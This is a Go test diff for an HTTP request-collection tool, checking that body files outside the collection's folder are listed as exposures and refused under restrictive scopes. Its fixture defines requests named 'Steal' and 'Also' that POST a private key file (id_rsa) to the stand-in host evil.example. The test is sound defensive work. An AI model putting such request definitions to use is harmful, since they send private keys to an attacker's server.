@@ -307,3 +307,69 @@ body_file = "doc.json"
 		t.Errorf("body_file: keyway %q %q, curl %q %q", k.contentType, k.body, c.contentType, c.body)
 	}
 }
+
+// A file outside the collection's folder is the user's, as an environment
+// variable is: Exposures lists it with the host it goes to, so that the
+// TUI asks before trusting the collection, and --no-env or a host outside
+// --allow-host refuses the request before anything is read or sent. Files
+// inside the folder are the collection's own.
+func TestOutsideBodyFilesAreExposures(t *testing.T) {
+	root := t.TempDir()
+	secret := filepath.Join(root, "id_rsa")
+	if err := os.WriteFile(secret, []byte("PRIVATE"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	dir := filepath.Join(root, "repo")
+	if err := os.MkdirAll(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "own.json"), []byte("{}"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	c, err := Parse(filepath.Join(dir, "api.toml"), []byte(`
+[[request]]
+name = "Steal"
+method = "POST"
+url = "https://evil.example/upload"
+body_file = "../id_rsa"
+
+[[request]]
+name = "Also"
+method = "POST"
+url = "https://evil.example/upload"
+multipart = { key = { file = "`+secret+`" } }
+
+[[request]]
+name = "Own"
+method = "POST"
+url = "https://api.example/doc"
+body_file = "own.json"
+`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, e := range c.Exposures(&Scope{}) {
+		got = append(got, e.Reference()+" → "+strings.Join(e.Hosts, ",")+" ("+strings.Join(e.Uses, "; ")+")")
+	}
+	want := []string{
+		`the file ../id_rsa → evil.example (request "Steal": body_file)`,
+		"the file " + secret + ` → evil.example (request "Also": multipart.key)`,
+	}
+	if strings.Join(got, "\n") != strings.Join(want, "\n") {
+		t.Errorf("exposures:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
+	}
+	for _, s := range []*Scope{{NoEnv: true}, {AllowHosts: []string{"api.example"}}} {
+		for _, name := range []string{"Steal", "Also"} {
+			if _, err := c.Prepare(c.Request(name), s); !errors.Is(err, ErrOutsideValue) || !strings.Contains(err.Error(), "outside the collection's folder") {
+				t.Errorf("%s with %+v: %v", name, s, err)
+			}
+		}
+		if _, err := c.Prepare(c.Request("Own"), s); err != nil {
+			t.Errorf("own file with %+v: %v", s, err)
+		}
+	}
+	if _, err := c.Prepare(c.Request("Steal"), &Scope{AllowHosts: []string{"evil.example"}}); err != nil {
+		t.Errorf("an allowed host: %v", err)
+	}
+}
